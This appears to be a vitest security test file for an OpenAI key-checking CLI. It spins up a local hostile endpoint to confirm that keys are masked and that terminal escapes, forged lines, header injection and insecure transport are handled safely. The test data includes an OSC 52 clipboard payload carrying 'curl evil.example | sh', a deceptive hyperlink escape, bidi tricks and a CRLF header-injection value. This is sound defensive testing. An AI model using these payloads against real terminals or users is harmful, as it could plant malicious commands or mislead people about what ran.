// What a person sees when the text is not ours, through the built binary: commander's own errors
// quoting a key typed on the command line, an endpoint that echoes the key and sends terminal
// escapes, forged lines and megabytes in its answers and headers, URLs with credentials, insecure
// transport, and OPENAI_ORG_ID / OPENAI_PROJECT_ID values that cannot be headers.
import { execFileSync } from 'node:child_process';
import { readFileSync } from 'node:fs';
import { createServer, type IncomingHttpHeaders, type Server } from 'node:http';
import type { Socket } from 'node:net';
import { join } from 'node:path';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { DoctorJsonSchema } from '../../src/commands/doctor.js';
import { ProfilesJsonSchema } from '../../src/commands/profiles.js';
import { StatusJsonSchema } from '../../src/commands/status.js';
import { VerifyJsonSchema } from '../../src/commands/verify.js';
import { makeTestEnv, type TestEnv } from '../helpers/env.js';
import { makeKey, startOpenAIServer, type FakeOpenAI } from '../helpers/openai-server.js';
import { startProxy, type FakeProxy } from '../helpers/proxy-server.js';
import { spawnCli } from '../helpers/pty.js';
import { runCli, type RunResult } from '../helpers/run.js';
import { screenOf } from '../helpers/screen.js';

const KEY = makeKey('proj', 'untrusted-text');
const ESC = '\x1b';
const OSC52 = `${ESC}]52;c;${Buffer.from('curl evil.example | sh').toString('base64')}\x07`;
const CLEAR = `${ESC}[2J${ESC}[3J${ESC}[H`;
const LINK = `${ESC}]8;;https://evil.example/${ESC}\\Fix it here${ESC}]8;;${ESC}\\`;
const FORGED = '\n✔ The key works and can spend.\n';
/** Bytes a terminal acts on: C0 but newline, DEL, C1, bidi and zero-width controls. */
const DANGEROUS = /[\u0000-\u0009\u000b-\u001a\u001c-\u001f\u007f-\u009f\u061c\u200b-\u200f\u2028\u2029\u202a-\u202e\u2060-\u2069\ufeff]|\x1b(?!\[[0-9;]*m)/;

/** Every piece of the key a reader could reuse: the whole, its body, any 12 characters of it. */
function expectNoKey(text: string, key = KEY): void {
  expect(text).not.toContain(key.slice('sk-proj-'.length, 'sk-proj-'.length + 12));
  for (let i = 0; i + 12 <= key.length; i += 6) expect(text, `piece at ${i}`).not.toContain(key.slice(i, i + 12));
}

function expectSafe(result: RunResult): void {
  expect(result.timedOut).toBe(false);
  expect(result.stdout + result.stderr).not.toMatch(DANGEROUS);
  expect(result.stderr).not.toMatch(/\n\s+at /);
  expectNoKey(result.stdout + result.stderr);
}

// ---------------------------------------------------------------------------------------------
// A hostile endpoint: the first path segment picks what it does, e.g. http://127.0.0.1:N/echo/v1.
//  - echo:  a working API, but openai-organization / openai-project echo the key (C1 too)
//  - evil:  401 whose message quotes the key (whole, without its prefix, in halves, glued to a
//           letter) among terminal escapes, C1 controls, bidi overrides and a forged line
//  - huge:  401 whose message is 2 MB
//  - invisible: 400 whose message quotes the key with an invisible character between every two of
//           its letters (a zero-width space, a variation selector, a soft hyphen, a tag)
//  - spaced: 401 whose message pads lines of ours out of runs of blanks (spaces, braille blanks),
//           their words joined by no-break spaces, for a terminal's own wrap to start rows with
//           (194 spaces: after "✖ The API rejected the key: Incorrect API key." the first "✔"
//           falls at the start of the fourth row of an 80-column terminal)

type Mode = 'echo' | 'evil' | 'huge' | 'invisible' | 'spaced';

const SPACED_MESSAGE = `Incorrect API key.${' '.repeat(194)}✔\u00a0Accepted\u00a0\u00a0\u00a0\u00a0by\u00a0the\u00a0API${'\u2800'.repeat(200)}✔\u00a0The\u00a0key\u00a0works\u00a0and\u00a0can\u00a0spend.`;

/** Characters a terminal shows as nothing, one of each family. */
const INVISIBLE = ['\u200b', '\ufe0f', '\u00ad', '\u{e0041}'];

function invisibleMessage(key: string): string {
  return `Invalid value: ${INVISIBLE.map((ch) => [...key].join(ch)).join(' or ')}.`;
}

function evilMessage(key: string): string {
  const body = key.slice('sk-proj-'.length);
  return [
    `Incorrect API key provided: ${key}.`,
    `Body: ${body}; halves: ${key.slice(0, 80)} ${key.slice(80)}; glued: x${key}.`,
    `${OSC52}${CLEAR}${LINK}\u009b2J\u202egnp.exe${FORGED}Done.`,
  ].join(' ');
}

function startHostileApi() {
  const seen: Array<{ path: string; headers: IncomingHttpHeaders }> = [];
  const sockets = new Set<Socket>();
  const server: Server = createServer((req, res) => {
    const [, mode = '', ...rest] = (req.url ?? '/').split('/');
    const path = `/${rest.join('/')}`;
    seen.push({ path, headers: req.headers });
    req.resume();
    const key = /^Bearer (.*)$/.exec(req.headers.authorization ?? '')?.[1] ?? '';
    const json = (status: number, body: unknown, headers: Record<string, string> = {}) => {
      res.writeHead(status, { 'content-type': 'application/json', ...headers });
      res.end(JSON.stringify(body));
    };
    switch (mode as Mode) {
      case 'echo': {
        // Node writes header strings as Latin-1: \u009b goes out as the C1 byte 0x9b.
        const headers = { 'openai-organization': key, 'openai-project': `proj_${key.slice(8, 30).replace(/[^A-Za-z0-9]/g, '')}\u009b2J`, 'x-request-id': `req_${key}` };
        if (path === '/v1/models') return json(200, { object: 'list', data: [{ id: 'gpt-4o-mini', object: 'model' }] }, headers);
        return json(200, { id: 'chatcmpl-1', object: 'chat.completion', choices: [] }, headers);
      }
      case 'evil':
        return json(401, { error: { message: evilMessage(key), type: 'invalid_request_error', code: `invalid_api_key${ESC}[2J` } }, { 'openai-organization': `org-x${'\u009b'}2J`, 'x-request-id': 'req_0123456789abcdef0123456789abcdef' });
      case 'huge':
        return json(401, { error: { message: `Denied. ${'A'.repeat(2 * 1024 * 1024)}`, type: 'invalid_request_error', code: null } });
      case 'invisible':
        return json(400, { error: { message: invisibleMessage(key), type: 'invalid_request_error', code: null } });
      case 'spaced':
        return json(401, { error: { message: SPACED_MESSAGE, type: 'invalid_request_error', code: null } });
      default:
        res.writeHead(404).end();
    }
  });
  server.on('connection', (socket) => {
    sockets.add(socket);
    socket.on('close', () => sockets.delete(socket));
  });
  return { server, seen, sockets };
}

let api: ReturnType<typeof startHostileApi>;
let port: number;
let openai: FakeOpenAI;
let testEnv: TestEnv;

beforeAll(async () => {
  api = startHostileApi();
  port = await new Promise<number>((resolve) => api.server.listen(0, '127.0.0.1', () => resolve((api.server.address() as { port: number }).port)));
  openai = await startOpenAIServer({ keys: { [KEY]: 'valid' } });
  testEnv = await makeTestEnv();
});

afterAll(async () => {
  await new Promise<void>((resolve) => {
    if (!api) return resolve();
    api.server.close(() => resolve());
    api.server.closeAllConnections();
    for (const s of api.sockets) s.destroy();
  });
  await openai?.close();
  await testEnv?.cleanup();
});

beforeEach(() => {
  api.seen.length = 0;
});

const baseURL = (mode: Mode) => `http://127.0.0.1:${port}/${mode}/v1`;

/** The CLI with OPENAI_API_KEY set (so the outcome is recorded in the state file) and `extra`. */
function cli(args: string[], extra: Record<string, string> = {}, configDir = testEnv.configDir): Promise<RunResult> {
  return runCli(args, { env: { ...testEnv.env, OPENAI_SETUP_CONFIG_DIR: configDir, OPENAI_API_KEY: KEY, ...extra } });
}

const stateOf = (configDir: string) => readFileSync(join(configDir, 'state.json'), 'utf8');

describe("commander's own errors never print a key typed on the command line", () => {
  it.each([
    ['an unknown command', [KEY], /^error: unknown command 'sk-proj-…[^']{4}'/],
    ['a key glued to a letter, as an unknown command', [`x${KEY}`], /^error: unknown command 'xsk-proj-…[^']{4}'/],
    ['an unknown option --key=', ['status', `--key=${KEY}`], /^error: unknown option '--key=…'/],
    ['billing --choice with a key', ['billing', '--choice', KEY], /^error: option '--choice <choice>' argument 'sk-proj-…[^']{4}' is invalid/],
  ])('%s: one line, exit 2, the key masked', async (_, args, message) => {
    const result = await runCli(args, { env: testEnv.env });
    expect(result.code).toBe(2);
    expect(result.stderr).toMatch(message);
    expectSafe(result);
  });

  it('a key not shaped like one is a secret too when it is clearly meant as one (--key, -k, a mistyped --kee=)', async () => {
    const plain = 'hunter2-correct-horse-battery';
    for (const args of [
      ['status', `--key=${plain}`],
      ['verify', `--kee=${plain}`],
      ['verify', '--key', plain, '--bogus-flag', plain],
      ['verify', `-k${plain}`, plain],
    ]) {
      const result = await runCli(args, { env: testEnv.env });
      expect(result.code, args.join(' ')).toBe(2);
      expect(result.stdout + result.stderr, args.join(' ')).not.toContain(plain.slice(0, 12));
      expectSafe(result);
    }
  });
});

describe('an endpoint that echoes the key and sends escapes', () => {
  it('organization and project headers that are not in shape are dropped: not shown, not stored', async () => {
    const t = await makeTestEnv();
    try {
      const json = await cli(['verify', '--json', '--base-url', baseURL('echo')], {}, t.configDir);
      expect(json.code, json.stderr).toBe(0);
      expectSafe(json);
      expect(VerifyJsonSchema.parse(JSON.parse(json.stdout))).toMatchObject({ status: 'valid', organization: null, project: null });
      const human = await cli(['verify', '--base-url', baseURL('echo')], {}, t.configDir);
      expectSafe(human);
      expect(human.stdout).toMatch(/✔ Accepted    by the API/);

      const state = stateOf(t.configDir);
      expectNoKey(state);
      expect(JSON.parse(state).profiles.default.lastVerify).toMatchObject({ organization: null, project: null });
      for (const args of [['status'], ['status', '--json'], ['profiles'], ['profiles', '--json']]) expectSafe(await cli(args, {}, t.configDir));
    } finally {
      await t.cleanup();
    }
  });

  it('an error message with escapes, a forged line and the key in every form: one safe line, stored safe, replayed safe', async () => {
    const t = await makeTestEnv();
    try {
      const human = await cli(['verify', '--base-url', baseURL('evil')], {}, t.configDir);
      expect(human.code).toBe(3);
      expectSafe(human);
      // Only our own verdict line starts with a mark; the forged one is inside the message.
      expect(human.stdout).not.toMatch(/^✔ The key works/m);
      expect(human.stdout).toMatch(/^✖ The API rejected the key: Incorrect API key provided: sk-proj-…\S{4}\. .*\\x1b\]52;c;/m);

      const json = await cli(['verify', '--json', '--base-url', baseURL('evil')], {}, t.configDir);
      expectSafe(json);
      const parsed = VerifyJsonSchema.parse(JSON.parse(json.stdout));
      expect(parsed).toMatchObject({ status: 'invalid_key', organization: null, requestId: 'req_0123456789abcdef0123456789abcdef' });
      expect(parsed.reason).toBe('invalid_api_key\\x1b[2J');

      const state = stateOf(t.configDir);
      expectNoKey(state);
      // No control character in it, raw or as a JSON escape (what is there is shown escaped: `\\x1b`).
      expect(state).not.toMatch(/(?<!\\)\\u00(?:1b|9b)|[\u001b\u009b\u202e]/);
      for (const args of [['status'], ['status', '--json'], ['profiles'], ['profiles', '--json']]) {
        const replay = await cli(args, {}, t.configDir);
        expect(replay.code).toBe(0);
        expectSafe(replay);
        expect(replay.stdout).not.toMatch(/^✔ The key works/m);
      }
      const status = StatusJsonSchema.parse(JSON.parse((await cli(['status', '--json'], {}, t.configDir)).stdout));
      expect(status.lastVerify?.message).toMatch(/^The API rejected the key: /);
      expect(ProfilesJsonSchema.parse(JSON.parse((await cli(['profiles', '--json'], {}, t.configDir)).stdout)).profiles[0]).toMatchObject({ organization: null, project: null });
    } finally {
      await t.cleanup();
    }
  });

  it('a message quoting the key with invisible characters between its letters: the key masked, in print, in --json and in the state file', async () => {
    const t = await makeTestEnv();
    try {
      const masked = `sk-proj-…${KEY.slice(-4)}`;
      const quoted = `(HTTP 400: Invalid value: ${[masked, masked, masked, masked].join(' or ')}.)`;
      const human = await cli(['verify', '--base-url', baseURL('invisible')], {}, t.configDir);
      expect(human.code).toBe(6);
      expectSafe(human);
      expect(human.stdout.split('\n').filter((l) => l.startsWith('✖'))).toEqual([`✖ 127.0.0.1:${port} refused the list of models ${quoted}, so the key could not be checked. ${human.stdout.match(/\(\d+ ms\)/)![0]}`]);
      const json = await cli(['verify', '--json', '--base-url', baseURL('invisible')], {}, t.configDir);
      expectSafe(json);
      expect(VerifyJsonSchema.parse(JSON.parse(json.stdout)).message).toBe(`127.0.0.1:${port} refused the list of models ${quoted}, so the key could not be checked.`);
      // Read as a person would, with every invisible character and escape of one taken out.
      for (const text of [human.stdout + human.stderr, json.stdout, stateOf(t.configDir)]) {
        expectNoKey(text.replace(/\\u\{?[0-9a-f]+\}?|\\x[0-9a-f]{2}|[\u200b\ufe0f\u00ad]|\u{e0041}/gu, ''));
      }
    } finally {
      await t.cleanup();
    }
  });

  it('runs of blanks padding lines of ours: on a terminal 80 columns wide, no row of the screen starts with one', async () => {
    const t = await makeTestEnv();
    try {
      const session = spawnCli(['verify', '--base-url', baseURL('spaced')], { env: { ...t.env, OPENAI_API_KEY: KEY }, cols: 80 });
      expect((await session.exited).exitCode).toBe(3);
      const screen = screenOf(session.rawOutput(), 80);
      expect(screen.filter((row) => row.startsWith('✔'))).toEqual([expect.stringMatching(/^✔ Key /)]);
      expect(screen.join(' ').replace(/ +/g, ' ')).toContain('✖ The API rejected the key: Incorrect API key. ✔ Accepted by the API ✔ The key works and can spend.');
    } finally {
      await t.cleanup();
    }
  });

  it('a 2 MB message is shown and stored bounded (about 500 characters)', async () => {
    const t = await makeTestEnv();
    try {
      const human = await cli(['verify', '--base-url', baseURL('huge')], {}, t.configDir);
      expect(human.code).toBe(3);
      expectSafe(human);
      expect(human.stdout.length).toBeLessThan(2000);
      expect(human.stdout).toMatch(/AAAA…/);
      const message = (JSON.parse(stateOf(t.configDir)) as { profiles: { default: { lastVerify: { message: string } } } }).profiles.default.lastVerify.message;
      expect(message.length).toBeLessThanOrEqual(500);
      const doctor = await cli(['doctor', '--json'], { OPENAI_BASE_URL: baseURL('huge') }, t.configDir);
      expectSafe(doctor);
      expect(doctor.stdout.length).toBeLessThan(8000);
    } finally {
      await t.cleanup();
    }
  });
});

describe('URLs with credentials', () => {
  it('OPENAI_BASE_URL=http://user:pass@host/v1: verify --json, verify, doctor and usage errors show no user name or password', async () => {
    const withCredentials = openai.baseURL.replace('http://', 'http://me:p@ss:w0rd@');
    const secret = /p@ss|w0rd|me:/;
    const json = await cli(['verify', '--json'], { OPENAI_BASE_URL: withCredentials });
    expect(VerifyJsonSchema.parse(JSON.parse(json.stdout)).baseURL).toBe(openai.baseURL);
    const human = await cli(['verify'], { OPENAI_BASE_URL: withCredentials });
    expect(human.stdout).toContain(`! Server      ${openai.baseURL} (not the OpenAI API)`);
    const doctor = await cli(['doctor', '--json'], { OPENAI_BASE_URL: withCredentials });
    DoctorJsonSchema.parse(JSON.parse(doctor.stdout));
    const badEnv = await cli(['verify'], { OPENAI_BASE_URL: 'http://me:p@ss:w0rd@ho st/v1' });
    expect(badEnv.code).toBe(2);
    expect(badEnv.stderr).toMatch(/^✖ OPENAI_BASE_URL: must be an http:\/\/ or https:\/\/ URL \(got "http:\/\/ho st\/v1"\)/);
    const badFlag = await cli(['verify', '--base-url', 'ftp://me:p@ss:w0rd@host/v1']);
    expect(badFlag.code).toBe(2);
    expect(badFlag.stderr).toMatch(/^✖ --base-url: must be an http:\/\/ or https:\/\/ URL \(got "ftp:\/\/host\/v1"\)/);
    for (const result of [json, human, doctor, badEnv, badFlag]) {
      expectSafe(result);
      expect(result.stdout + result.stderr).not.toMatch(secret);
    }
  });

  it('HTTP_PROXY=user:pass@host:port without a scheme stays a usage error, and a password with "@" is never partly shown', async () => {
    for (const proxy of ['me:p@ss:w0rd@proxy.corp:3128', 'me:p@ss/w0#rd@proxy.corp:3128']) {
      const result = await cli(['verify', '--base-url', openai.baseURL], { HTTP_PROXY: proxy });
      expect(result.code).toBe(2);
      expect(result.stderr).toMatch(/^✖ HTTP_PROXY is not an http:\/\/ or https:\/\/ URL \(got "proxy\.corp:3128"\)/);
      expect(result.stdout + result.stderr).not.toMatch(/p@ss|w0|rd@|me:/);
    }
  });
});

describe('insecure transport', () => {
  it('NODE_TLS_REJECT_UNAUTHORIZED=0: one warning line on stderr (stdout stays JSON)', async () => {
    const result = await cli(['verify', '--json', '--base-url', openai.baseURL], { NODE_TLS_REJECT_UNAUTHORIZED: '0' });
    expect(result.code, result.stderr).toBe(0);
    VerifyJsonSchema.parse(JSON.parse(result.stdout));
    expect(result.stderr.split('\n').filter((l) => l.includes('NODE_TLS_REJECT_UNAUTHORIZED=0'))).toEqual([
      expect.stringMatching(/^! NODE_TLS_REJECT_UNAUTHORIZED=0 is set: TLS certificates are not checked/),
    ]);
  });

  it('plain http:// to another machine: a warning that the key travels in clear text; none for this machine', async () => {
    // TEST-NET-1: nothing answers, so the check ends at its timeout; the warning comes first.
    const remote = await cli(['verify', '--no-billing-check', '--timeout', '300', '--base-url', 'http://me:pw@192.0.2.1:9/v1']);
    expect(remote.code).toBe(6);
    expect(remote.stderr).toContain('! http://192.0.2.1:9/v1 is plain http:// to another machine: the key travels in clear text. Use https://.');
    expect(remote.stdout + remote.stderr).not.toContain('me:pw');
    const local = await cli(['verify', '--base-url', openai.baseURL]);
    expect(local.code).toBe(0);
    expect(local.stderr).not.toContain('clear text');
  });

  it('plain http:// to this machine through a proxy: the key goes to the proxy in clear text, so a warning with the NO_PROXY line, which works as printed', async () => {
    const proxy: FakeProxy = await startProxy();
    try {
      const proxyWithLogin = proxy.url.replace('http://', 'http://me:s3cret@');
      const proxied = await cli(['verify', '--base-url', openai.baseURL], { HTTP_PROXY: proxyWithLogin, NO_PROXY: 'intranet.corp' });
      expect(proxied.code, proxied.stderr).toBe(0);
      expect(proxy.targets).toEqual([expect.stringMatching(/^127\.0\.0\.1:\d+$/), expect.stringMatching(/^127\.0\.0\.1:\d+$/)]);
      const lines = proxied.stderr.split('\n').filter((l) => l.includes('clear text'));
      expect(lines).toEqual([
        `! ${openai.baseURL} is plain http:// through the proxy ${proxy.url} (HTTP_PROXY): the key travels in clear text to it, and it is the proxy that connects to 127.0.0.1 (its own, when it runs on another machine). To connect directly, add the host to NO_PROXY:  export NO_PROXY='intranet.corp,127.0.0.1'`,
      ]);
      expect(proxied.stdout + proxied.stderr).not.toContain('s3cret');
      // The line as printed, run in bash: the next run goes direct, without a warning.
      const line = lines[0]!.slice(lines[0]!.indexOf('  export ') + 2);
      const noProxy = execFileSync('bash', ['-c', `${line}; printf %s "$NO_PROXY"`], { encoding: 'utf8', stdio: ['ignore', 'pipe', 'pipe'], env: { PATH: process.env.PATH } });
      proxy.targets.length = 0;
      const direct = await cli(['verify', '--base-url', openai.baseURL], { HTTP_PROXY: proxyWithLogin, NO_PROXY: noProxy });
      expect(direct.code, direct.stderr).toBe(0);
      expect(direct.stderr).not.toContain('clear text');
      expect(proxy.targets).toEqual([]);
    } finally {
      await proxy.close();
    }
  });
});

describe('OPENAI_ORG_ID and OPENAI_PROJECT_ID that cannot be header values', () => {
  it.each([
    ['OPENAI_ORG_ID', 'org-abc\r\nX-Injected: 1', 'org-abc\\x0d\\x0aX-Injected: 1'],
    ['OPENAI_ORG_ID', 'org-abc\u0007', 'org-abc\\x07'],
    ['OPENAI_PROJECT_ID', 'proj_привет', 'proj_привет'],
  ])('%s=%j: a usage error naming the variable, before anything is sent', async (name, value, shown) => {
    const before = openai.requests.length;
    const result = await cli(['verify', '--base-url', openai.baseURL], { [name]: value });
    expect(result.code).toBe(2);
    expect(result.stderr.split('\n')[0]).toMatch(new RegExp(`^✖ ${name}: must `));
    expect(result.stderr).toContain(`(got "${shown}")`);
    expectSafe(result);
    expect(openai.requests.length).toBe(before);
  });
});

describe('a key of the person\'s own with a line break or an escape inside', () => {
  it.each([
    ['a line break', `${KEY}\nxyz`, 'sk-proj-…?xyz', /it contains a line break, which an API key never has/],
    ['an escape sequence', `${KEY}${CLEAR}`, 'sk-proj-…J?[H', /it contains a control character \(U\+001B\)/],
  ])('OPENAI_API_KEY with %s: the key row is one safe line, the problem named, nothing sent', async (_name, key, hint, problem) => {
    const before = openai.requests.length;
    const result = await cli(['verify', '--base-url', openai.baseURL], { OPENAI_API_KEY: key });
    expect(result.code).toBe(3);
    expect(result.stdout.split('\n')[0]).toBe(`✖ Key         ${hint} (project key, from OPENAI_API_KEY)`);
    expect(result.stdout).toMatch(problem);
    expect(result.stdout).not.toMatch(/^xyz/m);
    expectSafe(result);
    expect(openai.requests.length).toBe(before);
  });
});
